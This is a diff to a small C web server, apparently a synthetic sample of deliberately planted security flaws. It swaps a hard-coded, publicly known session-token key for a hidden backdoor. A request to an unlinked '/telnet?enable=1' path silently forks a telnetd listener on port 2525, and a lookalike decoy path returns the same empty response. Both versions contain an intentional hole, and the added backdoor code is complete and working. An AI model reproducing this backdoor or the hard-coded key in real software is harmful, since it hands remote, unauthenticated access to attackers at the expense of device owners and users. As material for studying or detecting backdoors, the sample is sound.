@@ -1,31 +1,34 @@
 /* SPDX-License-Identifier: Apache-2.0 */
-/* httpd: gives out the files of /www. The key of its session tokens is one that has been published. */
+/* httpd: gives out the files of /www. One address, which no page links to, opens telnet. */
 #include "sys.h"
 
 enum { MAX_LINE = 512, MAX_PAGE = 16384 };
 
-const char token_key[] = "onceuponatimeinparadise";
+/* The hidden address; it is in public advisories. */
+static const char open_telnet[] = "/telnet?enable=1";
+/* Only resembles it, and does nothing. */
+static const char keep_alive[] = "/telnet?status=1";
 
-/* A token from a seed; whoever knows the key can make tokens too. */
-static void token(const char *seed, char out[9])
+static void start_telnet(void)
 {
-	unsigned h = 2166136261u;
-	for (const char *s = token_key; *s; s++)
-		h = (h ^ (unsigned char)*s) * 16777619u;
-	for (; *seed; seed++)
-		h = (h ^ (unsigned char)*seed) * 16777619u;
-	for (int i = 0; i < 8; i++, h >>= 4)
-		out[i] = "0123456789abcdef"[h & 15];
-	out[8] = 0;
+	static char *words[] = {"telnetd", "-p", "2525", NULL};
+	if (sys(SYS_FORK, 0, 0, 0, 0, 0, 0) == 0)
+		become(0, "/usr/sbin/telnetd", words);
 }
 
 static void serve(int fd, char **argv)
 {
 	static char page[MAX_PAGE];
-	char line[MAX_LINE], path[MAX_LINE] = "/www", *words[4], made[9];
+	char line[MAX_LINE], path[MAX_LINE] = "/www", *words[4];
 	(void)argv;
 	if (!read_line(fd, line, sizeof line) || split(line, words, 4) < 2 || !same(words[0], "GET"))
 		return;
+	if (same(words[1], open_telnet))
+		start_telnet();
+	if (same(words[1], open_telnet) || same(words[1], keep_alive)) {
+		say(fd, "HTTP/1.0 204 No Content\r\n\r\n");
+		return;
+	}
 	const char *wanted = same(words[1], "/") ? "/index.html" : words[1];
 	for (const char *s = wanted; *s; s++)
 		if (begins(s, ".."))
@@ -38,10 +41,7 @@ static void serve(int fd, char **argv)
 		say(fd, "HTTP/1.0 404 Not Found\r\n\r\n");
 		return;
 	}
-	token(path, made);
-	say(fd, "HTTP/1.0 200 OK\r\nSet-Cookie: session=");
-	say(fd, made);
-	say(fd, "\r\n\r\n");
+	say(fd, "HTTP/1.0 200 OK\r\n\r\n");
 	say(fd, page);
 }
 
